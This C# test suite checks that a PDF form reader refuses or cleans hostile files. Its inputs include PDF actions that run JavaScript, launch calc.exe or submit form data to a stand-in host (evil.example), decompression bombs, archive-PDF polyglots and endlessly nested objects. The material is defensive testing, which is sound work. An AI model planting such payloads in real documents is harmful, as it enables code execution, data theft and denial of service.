using System.Diagnostics;
using System.Text;

namespace Juluo.Documents.Tests;

/// <summary>Files that mean harm: each is refused for what it is, or loses what acts in it, in bounded time and memory.</summary>
public sealed class HostileFileTests
{
    [Fact]
    public void What_is_no_form_is_refused_for_what_it_is()
    {
        Fault("hello"u8.ToArray()).ShouldBe(PdfFault.NotPdf);
        Fault([]).ShouldBe(PdfFault.NotPdf);
        Fault([.. "MZ"u8, .. MadeForm.Usual().Bytes()]).ShouldBe(PdfFault.NotPdf);
        Fault([.. MadeForm.Usual().Bytes(), .. "<script>alert(1)</script>"u8]).ShouldBe(PdfFault.TwoFiles);
        Fault([.. MadeForm.Usual().Bytes().SkipLast(8)]).ShouldBe(PdfFault.Broken);
        Fault("%PDF-1.7\n%%EOF"u8.ToArray()).ShouldBe(PdfFault.Broken);
        Fault(new byte[PdfLimits.MostBytes + 1]).ShouldBe(PdfFault.TooLarge);
    }

    [Fact]
    public void An_archive_that_is_a_form_too_is_refused()
    {
        // An archive's last record may say that a comment follows, in which the form lies to its very end.
        var form = MadeForm.Usual().Bytes();
        var end = Encoding.Latin1.GetBytes("PK\u0005\u0006" + new string('\0', 16));
        var made = MadeForm.Usual();
        var rest = form.Length;
        made.Stream(20, "", [.. end, 0, 0, .. new byte[4]]);
        var bytes = made.Bytes();
        var at = bytes.AsSpan().IndexOf("PK\u0005\u0006"u8);
        var comment = bytes.Length - at - 22;
        (bytes[at + 20], bytes[at + 21]) = ((byte)comment, (byte)(comment >> 8));
        rest.ShouldBePositive();
        Fault(bytes).ShouldBe(PdfFault.TwoFiles);
    }

    [Fact]
    public void A_password_and_a_dynamic_form_are_refused()
    {
        var locked = MadeForm.Usual();
        locked.Trailer = "/Root 1 0 R /Encrypt << /Filter /Standard /V 2 >>";
        Fault(locked.Bytes()).ShouldBe(PdfFault.Encrypted);
        var dynamic = MadeForm.Usual();
        dynamic[4] = "<< /Fields [] /XFA (x) >>";
        Fault(dynamic.Bytes()).ShouldBe(PdfFault.Dynamic);
        var none = MadeForm.Usual();
        none[4] = "<< /Fields [] >>";
        Fault(none.Bytes()).ShouldBe(PdfFault.NoFields);
    }

    [Theory]
    [InlineData("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")]
    [InlineData("<< /S /Launch /F (calc.exe) >>")]
    [InlineData("<< /S /SubmitForm /F (https://evil.example) >>")]
    [InlineData("<< /S /ImportData /F (secret.fdf) >>")]
    [InlineData("<< /S /GoToR /F (other.pdf) >>")]
    public void What_acts_is_taken_out_wherever_it_stands(string action)
    {
        var made = MadeForm.Usual();
        made[1] =
            $"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R /OpenAction 20 0 R /AA << /WC 20 0 R >> /Names << /JavaScript << /Names [(a) 20 0 R] >> /EmbeddedFiles << /Names [(b) 21 0 R] >> >> >>";
        made[5] = $"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /Rect [50 780 300 800] /A 20 0 R /AA << /K {action} >> >>";
        made[20] = action;
        made.Stream(21, "/Type /EmbeddedFile", "MZ evil"u8.ToArray());
        var form = PdfForm.Read(made.Bytes(), out var fault);
        fault.ShouldBeNull();
        var clean = Encoding.Latin1.GetString(form!.Fill(new Dictionary<string, string>(StringComparer.Ordinal) { ["Name"] = "x" }));
        foreach (
            var word in (string[])
                ["JavaScript", "app.alert", "Launch", "calc", "SubmitForm", "evil", "ImportData", "GoToR", "/AA", "OpenAction"]
        )
        {
            clean.ShouldNotContain(word);
            clean.ShouldNotContain(Convert.ToHexString(Encoding.ASCII.GetBytes(word)));
        }
    }

    [Fact]
    public void Streams_that_expand_without_end_are_refused_before_they_fill_the_memory()
    {
        var bomb = MadeForm.Packed(new byte[300 * 1024 * 1024]);
        bomb.Length.ShouldBeLessThan(PdfLimits.MostBytes);
        var page = MadeForm.Usual();
        page.Stream(16, "/Filter /FlateDecode", bomb);
        Bounded(() => Fault(page.Bytes()).ShouldBe(PdfFault.Expands));
        var twice = MadeForm.Usual();
        twice.Stream(16, "/Filter [/FlateDecode /FlateDecode]", MadeForm.Packed(bomb));
        Bounded(() => Fault(twice.Bytes()).ShouldBe(PdfFault.Expands));
        var many = MadeForm.Usual();
        many[3] = many[3]
            .Replace(
                "/Contents 16 0 R",
                $"/Contents [{string.Join(' ', Enumerable.Range(30, 200).Select(n => $"{n} 0 R"))}]",
                StringComparison.Ordinal
            );
        var mega = MadeForm.Packed(new byte[1024 * 1024]);
        for (var n = 30; n < 230; n++)
            many.Stream(n, "/Filter /FlateDecode", mega);
        Bounded(() => Fault(many.Bytes()).ShouldBe(PdfFault.Expands));
    }

    [Fact]
    public void What_leads_back_to_itself_or_nests_without_end_is_refused()
    {
        var pages = MadeForm.Usual();
        pages[2] = "<< /Type /Pages /Kids [2 0 R] /Count 1 >>";
        Bounded(() => Fault(pages.Bytes()).ShouldBe(PdfFault.Broken));
        var fields = MadeForm.Usual();
        fields[6] = "<< /T (address) /Kids [6 0 R] >>";
        Bounded(() => Fault(fields.Bytes()).ShouldBe(PdfFault.TooDeep));
        var nested = MadeForm.Usual();
        nested[5] = $"<< /T (a) /X {new string('[', 200_000)}{new string(']', 200_000)} >>";
        Bounded(() => Fault(nested.Bytes()).ShouldBe(PdfFault.TooDeep));
        var tables = MadeForm.Usual();
        tables.Trailer = "/Root 1 0 R /Prev HERE";
        Bounded(() => Fault(tables.Bytes()).ShouldBe(PdfFault.Broken));
        var length = MadeForm.Usual();
        length[16] = "<< /Length 16 0 R >>\nstream\nx\nendstream";
        Bounded(() => Fault(length.Bytes()).ShouldBe(PdfFault.TooDeep));
    }

    [Fact]
    public void More_pages_or_fields_than_a_form_has_are_refused()
    {
        var pages = MadeForm.Usual();
        pages[2] = $"<< /Type /Pages /Kids [{string.Join(' ', Enumerable.Range(30, 70).Select(n => $"{n} 0 R"))}] /Count 70 >>";
        for (var n = 30; n < 100; n++)
            pages[n] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>";
        Fault(pages.Bytes()).ShouldBe(PdfFault.TooManyPages);
        var fields = MadeForm.Usual();
        fields[4] = $"<< /Fields [{string.Join(' ', Enumerable.Range(30, 2000).Select(n => $"{n} 0 R"))}] >>";
        for (var n = 30; n < 2030; n++)
            fields[n] = $"<< /FT /Tx /T (f{n}) /Rect [0 0 9 9] >>";
        Fault(fields.Bytes()).ShouldBe(PdfFault.TooManyObjects);
    }

    [Fact] // Each byte changed, and each end cut off: a sentence or a form, and never another exception.
    public void Damage_anywhere_is_a_sentence_or_a_form()
    {
        foreach (var whole in new[] { MadeForm.Usual().Bytes(), MadeForm.Usual().Compressed() })
        {
            for (var i = 0; i < whole.Length; i += 11)
            {
                Should.NotThrow(() => PdfForm.Read(whole[..i], out _));
                var other = whole.ToArray();
                other[i] ^= (byte)(1 << (i % 8));
                Should.NotThrow(() =>
                    PdfForm.Read(other, out _)?.Fill(new Dictionary<string, string>(StringComparer.Ordinal) { ["Name"] = "王" })
                );
            }
        }
    }

    private static PdfFault? Fault(byte[] bytes)
    {
        PdfForm.Read(bytes, out var fault);
        return fault;
    }

    // Processor time of this thread's work is not to be had alone; a machine that is busy gets twenty seconds for what takes less than one.
    private static void Bounded(Action read)
    {
        var (before, watch) = (GC.GetAllocatedBytesForCurrentThread(), Stopwatch.StartNew());
        read();
        watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
        (GC.GetAllocatedBytesForCurrentThread() - before).ShouldBeLessThan(1024L * 1024 * 1024);
    }
}
